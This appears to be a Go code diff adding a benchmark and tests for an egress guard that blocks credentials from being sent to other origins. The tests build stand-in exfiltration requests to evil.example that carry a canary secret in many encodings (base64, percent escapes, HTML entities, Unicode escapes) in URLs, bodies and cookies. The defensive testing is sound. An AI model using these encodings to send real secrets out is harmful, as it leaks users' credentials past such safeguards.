@@ -2,6 +2,7 @@ package egress
 
 import (
 	"encoding/base64"
+	"fmt"
 	"net/url"
 	"strings"
 	"testing"
@@ -102,5 +103,78 @@ func TestChannelRules(t *testing.T) {
 	}
 	if rules[len(rules)-1]["offline"] != true || rules[2]["offline"] != true || rules[0]["offline"] != nil {
 		t.Fatalf("offline marks wrong: %v", rules)
+	}
+}
+
+// BenchmarkCheck1MiB is one request with a 1 MiB form body to another origin, checked for
+// four secrets (each secret's Set reads the whole body).
+func BenchmarkCheck1MiB(b *testing.B) {
+	var g Guard
+	for i := 0; i < 4; i++ {
+		g.Add([]byte(pw+strings.Repeat("z", i)), "alice", "s", []string{"https://a.example"})
+	}
+	unit := `q=Search+Terms%20and%2Fmore&t=caf&#233; &amp; co&j={"a":"\u00e9"}&img=iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==&`
+	body := []byte(strings.Repeat(unit, (1<<20)/len(unit)+1)[:1<<20])
+	r := Request{URL: "https://evil.example/collect?x=1%202", Headers: map[string]string{"Content-Type": "application/x-www-form-urlencoded", "Cookie": "a=b%20c"}, Body: body}
+	b.SetBytes(int64(len(body)))
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		if g.Check(r) != nil {
+			b.Fatal("refused")
+		}
+	}
+}
+
+// TestEncodedForms: the hostile review's A40 and A42 requests from the sign-in page to another
+// origin are refused, in the URL and in the body; to the credential's origin the body goes.
+func TestEncodedForms(t *testing.T) {
+	const canary = "Zq8CANARYk4t7wPv2x"
+	each := func(f string) string {
+		var b strings.Builder
+		for _, c := range canary {
+			b.WriteString(fmt.Sprintf(f, c))
+		}
+		return b.String()
+	}
+	forms := map[string]string{
+		"btoa(v)":        base64.StdEncoding.EncodeToString([]byte(canary)),
+		"btoa('x'+v)":    base64.StdEncoding.EncodeToString([]byte("x" + canary)),
+		"btoa('xy'+v)":   base64.StdEncoding.EncodeToString([]byte("xy" + canary)),
+		"btoa('u=1&'+v)": base64.StdEncoding.EncodeToString([]byte("u=1&" + canary)),
+		"base64url, 'x'": base64.RawURLEncoding.EncodeToString([]byte("x" + canary + "}")),
+		"%xx lower":      each("%%%02x"),
+		"%XX upper":      each("%%%02X"),
+		"&#N;":           each("&#%d;"),
+		"&#xH;":          each("&#x%x;"),
+		"&#XH":           each("&#X%X"),
+		"\\u lower":      each("\\u%04x"),
+		"\\u upper":      each("\\u%04X"),
+		"alternating":    "zQ8cAnArYk4T7wPv2X",
+		"encoded base64": url.QueryEscape(base64.StdEncoding.EncodeToString([]byte("xy" + canary))),
+		"in a JSON body": `{"p":"` + each("\\u%04x") + `"}`,
+		"mixed per char": "%5a&#113;\\u0038CANARY" + canary[9:],
+	}
+	for name, e := range forms {
+		var g Guard
+		g.Add([]byte(canary), "alice", "s", []string{"https://a.example"})
+		if r := g.Check(Request{URL: "https://evil.example/c/" + e}); r == nil || r.Why != "its URL" {
+			t.Errorf("%s in a URL: %+v", name, r)
+		}
+		if r := g.Check(Request{URL: "https://evil.example/c", Body: []byte("d=" + e)}); r == nil || r.Why != "its body" {
+			t.Errorf("%s in a body: %+v", name, r)
+		}
+		if r := g.Check(Request{URL: "https://evil.example/c", Headers: map[string]string{"Cookie": "d=" + e}}); r == nil || r.Why != "its Cookie header" {
+			t.Errorf("%s in a cookie: %+v", name, r)
+		}
+		if r := g.Check(Request{URL: "https://a.example/login", Body: []byte("d=" + e)}); r != nil {
+			t.Errorf("%s in a body to the credential's origin: refused (%s)", name, r.Why)
+		}
+	}
+	var g Guard
+	g.Add([]byte(canary), "alice", "s", []string{"https://a.example"})
+	for _, e := range []string{"Zq8CANARYk4t7wPv2", each("%%%02x")[3:], base64.StdEncoding.EncodeToString([]byte("x" + canary[:10])), "q=Zq8CANARY&r=k4t7wPv2x"} {
+		if r := g.Check(Request{URL: "https://evil.example/c?" + e, Body: []byte(e)}); r != nil {
+			t.Errorf("%q refused (%s): not the whole secret", e, r.Why)
+		}
 	}
 }
